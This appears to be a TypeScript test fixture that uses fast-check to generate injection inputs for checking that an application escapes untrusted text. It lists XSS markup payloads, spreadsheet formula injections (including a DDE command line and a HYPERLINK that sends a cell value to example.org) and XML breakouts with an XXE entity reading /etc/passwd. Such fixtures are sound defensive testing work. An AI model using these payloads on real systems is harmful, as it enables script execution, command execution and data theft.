import fc from 'fast-check';

/** Sets this on the page if it ever runs. */
export const FLAG = 'attacco';
/** Marks every element that an attack would make. */
export const MARK = 'data-attacco';

/** Script, SVG, template and address injection, each as it would be typed in a field or in an address. */
export const MARKUP = [
  `<script>globalThis.${FLAG}=1</script>`,
  `"><img src=x ${MARK} onerror="globalThis.${FLAG}=1">`,
  `'><svg ${MARK} onload='globalThis.${FLAG}=1'>`,
  `</title></textarea></style><svg ${MARK}><animate onbegin=globalThis.${FLAG}=1 attributeName=x>`,
  `]]><foreignObject><iframe ${MARK} srcdoc="<script>parent.${FLAG}=1</script>"></iframe></foreignObject>`,
  `" onmouseover="globalThis.${FLAG}=1" x="`,
  `javascript:globalThis.${FLAG}=1`,
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;&#x3c;b>',
  '\u0000<b>\u202e\ufeff',
];

/** What a spreadsheet would run. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://example.org/?x="&A1,"qui")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u200b=1+1',
  '＝1+1',
];

/** What would break out of a part of a document of Word or of a workbook. */
export const XML = [
  '</w:t></w:r></w:p><w:p><w:r><w:t>dentro</w:t></w:r></w:p>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '<w:instrText>INCLUDETEXT "http://example.org"</w:instrText>',
  '_x003C_script_x003E_',
];

/** Any of the attacks, alone or with any text around it. */
export const attack = fc
  .tuple(
    fc.string({ unit: 'grapheme', maxLength: 8 }),
    fc.constantFrom(...MARKUP, ...FORMULAS, ...XML),
    fc.string({ unit: 'grapheme', maxLength: 8 }),
  )
  .map((parts) => parts.join(''));
